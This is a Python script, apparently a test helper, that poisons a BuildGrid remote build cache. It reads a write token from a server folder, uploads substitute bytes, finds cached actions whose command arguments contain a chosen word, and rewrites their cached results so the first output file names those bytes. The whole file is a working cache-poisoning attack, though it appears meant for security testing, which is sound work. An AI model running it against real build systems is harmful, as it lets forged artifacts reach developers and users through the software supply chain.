"""Put other bytes behind every result of a command that is in a cache, for tests.

What a holder of a write token could do: a result then names bytes that are there and have the
digest that the result says, and that no step ever wrote.
"""

from __future__ import annotations

import argparse
import hashlib
from pathlib import Path

import grpc
from buildgrid._protos.build.bazel.remote.execution.v2 import remote_execution_pb2 as api
from buildgrid._protos.build.bazel.remote.execution.v2 import remote_execution_pb2_grpc as services
from google.protobuf.message import DecodeError


def main() -> None:
    """Replace the first output file of each result of a step whose arguments hold a word."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address", help="host:port, without TLS")
    parser.add_argument("folder", type=Path, help="of serve.py")
    parser.add_argument("word")
    parser.add_argument("other", help="the bytes in place of the output's")
    given = parser.parse_args()
    other = given.other.encode()
    headers = [("authorization", f"Bearer {(given.folder / 'writer').read_text().strip()}")]
    with grpc.insecure_channel(given.address) as channel:
        results = services.ActionCacheStub(channel)
        request = api.BatchUpdateBlobsRequest()
        request.requests.add(digest=digest_of(other), data=other)
        services.ContentAddressableStorageStub(channel).BatchUpdateBlobs(request, metadata=headers)
        poisoned = 0
        for blob in blobs(given.folder):
            if not names(given.folder, blob, given.word):
                continue
            action = digest_of(blob)
            found = api.GetActionResultRequest(action_digest=action)
            try:
                result = results.GetActionResult(found, metadata=headers)
            except grpc.RpcError:
                continue
            result.output_files[0].digest.CopyFrom(digest_of(other))
            results.UpdateActionResult(
                api.UpdateActionResultRequest(action_digest=action, action_result=result),
                metadata=headers,
            )
            poisoned += 1
    print(poisoned)


def blobs(folder: Path) -> list[bytes]:
    """Return what is stored and small enough for an action."""
    stored = (folder / "storage" / "cas" / "objects").rglob("*")
    return [file.read_bytes() for file in stored if file.is_file() and file.stat().st_size < 4096]


def names(folder: Path, blob: bytes, word: str) -> bool:
    """Return whether a blob is an action whose command has `word` among its arguments."""
    try:
        digest = api.Action.FromString(blob).command_digest
    except DecodeError:
        return False
    found = list((folder / "storage").rglob(f"*{digest.hash[2:]}*")) if digest.hash else []
    if not found:
        return False
    try:
        return word in api.Command.FromString(found[0].read_bytes()).arguments
    except DecodeError:
        return False


def digest_of(data: bytes) -> api.Digest:
    """Return the digest of a blob."""
    return api.Digest(hash=hashlib.sha256(data).hexdigest(), size_bytes=len(data))


if __name__ == "__main__":
    main()
